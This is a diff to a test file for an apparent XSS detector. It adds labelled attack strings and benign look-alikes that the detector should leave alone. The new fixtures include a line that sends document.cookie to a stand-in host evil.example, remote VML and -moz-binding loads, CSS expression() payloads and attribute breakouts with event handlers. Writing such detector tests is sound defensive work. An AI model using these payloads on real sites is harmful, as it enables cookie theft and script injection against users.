@@ -32,6 +32,12 @@ const attacks: [string, string][] = [
   ['<p style="width:exp/**/ression(confirm(5))">', 'xss-css'],
   ['<style>*{background:url("\\6a avascript:confirm(5)")}</style>', 'xss-css'],
   ['<select+onfocus=confirm(8)+autofocus>', 'xss-event-handler'],
+  ['<p title="</p><script>prompt(8)</script>">', 'xss-script-tag'],
+  ['<v:vmlframe src="//evil.example/f.fml"/>', 'xss-script-tag'],
+  ['-moz-binding:url(//evil.example/b.xml#b)', 'xss-css'],
+  ['color:red;width:expression(prompt(8))', 'xss-css'],
+  ['" onclick="window.onerror=confirm;throw 1" x="', 'xss-event-handler'],
+  ["c=document.cookie;location='//evil.example/?'+c", 'xss-js-eval'],
   // handlers injected into an attribute, without a tag of their own
   ['" onfocus="confirm(9)" autofocus="', 'xss-event-handler'],
   ["x' onpointerover=prompt`9` '", 'xss-event-handler'],
@@ -100,6 +106,9 @@ const benign = [
   'Fortune+ADw-cookie',
   '<style>body { color: red; }</style>',
   '<p style="color: blue">hi</p>',
+  'a regular expression (regex) tutorial',
+  "set location = 'Dublin' in your cookie settings page",
+  'background: url(/img/hero.png) no-repeat; color: #333',
 ]
 
 test('XSS: attacks are found with the right rule', () => {
